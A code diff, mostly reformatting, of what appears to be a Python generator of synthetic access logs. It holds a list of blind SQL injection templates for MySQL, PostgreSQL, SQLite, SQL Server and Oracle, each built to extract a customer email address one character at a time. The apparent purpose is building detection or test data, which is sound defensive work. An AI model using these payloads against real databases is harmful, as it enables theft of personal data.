@@ -83,11 +83,14 @@ def _linear(template: str, end: str = "") -> Extractor:
 
     def extract(ask: Ask, query: Query, secret: str) -> None:
         if end:
-            for size in range(0, len(secret) + 1):
+            for size in range(len(secret) + 1):
                 ask(end.format(q=query, n=size), size == len(secret))
         for place in range(1, len(secret) + 1):
             for one in CHARSET:
-                if ask(template.format(q=query, p=place, c=one.replace("'", "''"), x=one.encode().hex()), one == secret[place - 1]):
+                if ask(
+                    template.format(q=query, p=place, c=one.replace("'", "''"), x=one.encode().hex()),
+                    one == secret[place - 1],
+                ):
                     break
 
     return extract
@@ -122,13 +125,17 @@ class Form:
 
 
 MYSQL = "SELECT IFNULL(CAST(mail AS NCHAR),0x20) FROM shop.customers ORDER BY id LIMIT 3,1"
-POSTGRESQL = "SELECT COALESCE(CAST(mail AS VARCHAR(10000))::text,(CHR(32))) FROM public.customers ORDER BY id OFFSET 3 LIMIT 1"
+POSTGRESQL = (
+    "SELECT COALESCE(CAST(mail AS VARCHAR(10000))::text,(CHR(32))) FROM public.customers ORDER BY id OFFSET 3 LIMIT 1"
+)
 SQLITE = "SELECT COALESCE(CAST(mail AS TEXT),CAST(X'20' AS TEXT)) FROM customers LIMIT 3,1"
 SERVER = (
-    "SELECT ISNULL(CAST(mail AS NVARCHAR(4000)),CHAR(32)) FROM (SELECT mail, ROW_NUMBER() OVER (ORDER BY (SELECT 1)) AS CAP "
-    "FROM shop.dbo.customers)x WHERE CAP=4"
+    "SELECT ISNULL(CAST(mail AS NVARCHAR(4000)),CHAR(32)) FROM (SELECT mail, ROW_NUMBER() OVER "
+    "(ORDER BY (SELECT 1)) AS CAP FROM shop.dbo.customers)x WHERE CAP=4"
 )
-ORACLE = "SELECT NVL(CAST(mail AS VARCHAR(4000)),CHR(32)) FROM (SELECT mail,ROWNUM AS CAP FROM SHOP.CUSTOMERS) WHERE CAP=4"
+ORACLE = (
+    "SELECT NVL(CAST(mail AS VARCHAR(4000)),CHR(32)) FROM (SELECT mail,ROWNUM AS CAP FROM SHOP.CUSTOMERS) WHERE CAP=4"
+)
 SCRIPT = "select mail from customers limit 3,1"
 
 FORMS = (
@@ -136,14 +143,27 @@ FORMS = (
     Form("mysql not between", MYSQL, _codes("ORD(MID(({q}),{p},1)) NOT BETWEEN 0 AND {n}", ord_bytes, 127)),
     Form("mysql flipped", MYSQL, _codes("{n}<ORD(MID(({q}),{p},1))", ord_bytes, 127)),
     Form("mysql case", MYSQL, _codes("(CASE WHEN (ASCII(SUBSTRING(({q}),{p},1))>{n}) THEN 1 ELSE 0 END)=1", ord, 127)),
-    Form("mysql greatest", MYSQL, _codes("GREATEST(ORD(MID(({q}),{p},1)),{n}+1)=ORD(MID(({q}),{p},1))", ord_bytes, 127)),
+    Form(
+        "mysql greatest", MYSQL, _codes("GREATEST(ORD(MID(({q}),{p},1)),{n}+1)=ORD(MID(({q}),{p},1))", ord_bytes, 127)
+    ),
     Form("mysql conv", MYSQL, _codes("CONV(HEX(MID(({q}),{p},1)),16,10)>{n}", ord_bytes, 127)),
-    Form("mysql rlike", MYSQL, _codes("1 RLIKE (SELECT (CASE WHEN (ORD(MID(({q}),{p},1))>{n}) THEN 1 ELSE 0x28 END))", ord_bytes, 127)),
+    Form(
+        "mysql rlike",
+        MYSQL,
+        _codes("1 RLIKE (SELECT (CASE WHEN (ORD(MID(({q}),{p},1))>{n}) THEN 1 ELSE 0x28 END))", ord_bytes, 127),
+    ),
     Form("mysql bin", MYSQL, _bits("SUBSTRING(LPAD(BIN(ASCII(SUBSTRING(({q}),{p},1))),8,0),8-{b},1)=1", ord, 8)),
     Form("mysql hex literal", MYSQL, _linear("SUBSTRING(({q}),{p},1)=0x{x}", "CHAR_LENGTH(({q}))={n}")),
     Form("mysql like binary", MYSQL, _prefixes("({q}) REGEXP BINARY '^{t}'", "BINARY ({q})='{t}'"), "word"),
-    Form("postgresql ascii", POSTGRESQL, _codes("ASCII(SUBSTRING(({q})::text FROM {p} FOR 1))>{n}", ord, 0x10FFFF), "any"),
-    Form("postgresql bits", POSTGRESQL, _bits("(ASCII(SUBSTRING(({q})::text FROM {p} FOR 1)) >> {b}) & 1 = 1", ord, 21), "any"),
+    Form(
+        "postgresql ascii", POSTGRESQL, _codes("ASCII(SUBSTRING(({q})::text FROM {p} FOR 1))>{n}", ord, 0x10FFFF), "any"
+    ),
+    Form(
+        "postgresql bits",
+        POSTGRESQL,
+        _bits("(ASCII(SUBSTRING(({q})::text FROM {p} FOR 1)) >> {b}) & 1 = 1", ord, 21),
+        "any",
+    ),
     Form("postgresql equals", POSTGRESQL, _linear("SUBSTR(({q}),{p},1)='{c}'", "LENGTH(({q}))={n}")),
     Form("postgresql like", POSTGRESQL, _prefixes("({q}) LIKE '{t}%'", "({q})='{t}'"), "word"),
     Form("sqlite char", SQLITE, _codes("SUBSTR(({q}),{p},1)>CHAR({n})", ord, 127)),
@@ -153,7 +173,11 @@ FORMS = (
     Form("sql server unicode", SERVER, _codes("UNICODE(SUBSTRING(({q}),{p},1))>{n}", ord, 0xFFFF), "bmp"),
     Form("oracle ascii", ORACLE, _codes("ASCII(SUBSTRC(({q}),{p},1))>{n}", ord_bytes, 0xFFFFFF), "bmp"),
     Form("script mask", SCRIPT, _bits("ascii(substr(({q}),{p},1))&{m}", ord, 8)),
-    Form("script in the query", "mail", _codes("(select ascii(substr({q},{p},1)) from customers limit 3,1)>{n}", ord, 127)),
+    Form(
+        "script in the query",
+        "mail",
+        _codes("(select ascii(substr({q},{p},1)) from customers limit 3,1)>{n}", ord, 127),
+    ),
     Form("script linear", SCRIPT, _linear("ascii(substr(({q}),{p},1))=ascii('{c}')", "length(({q}))={n}")),
     Form("script instr", SCRIPT, _linear("instr('{c}',substr(({q}),{p},1))=1", "length(({q}))={n}"), "word"),
 )
@@ -163,6 +187,6 @@ def others(page: Page, count: int) -> Iterator[str]:
     """Lines of other people on the same page."""
     for number in range(count):
         yield (
-            f'10.0.9.{number % 200} - - [19/Mar/2026:10:00:{number % 60:02d} +0900] "GET {page.path}?id={number}&q=a+b%27s HTTP/1.1" '
-            f'200 {300 + number % 90} "-" "Mozilla/5.0"'
+            f'10.0.9.{number % 200} - - [19/Mar/2026:10:00:{number % 60:02d} +0900] "GET {page.path}?id={number}&q=a+b%27s '
+            f'HTTP/1.1" 200 {300 + number % 90} "-" "Mozilla/5.0"'
         )
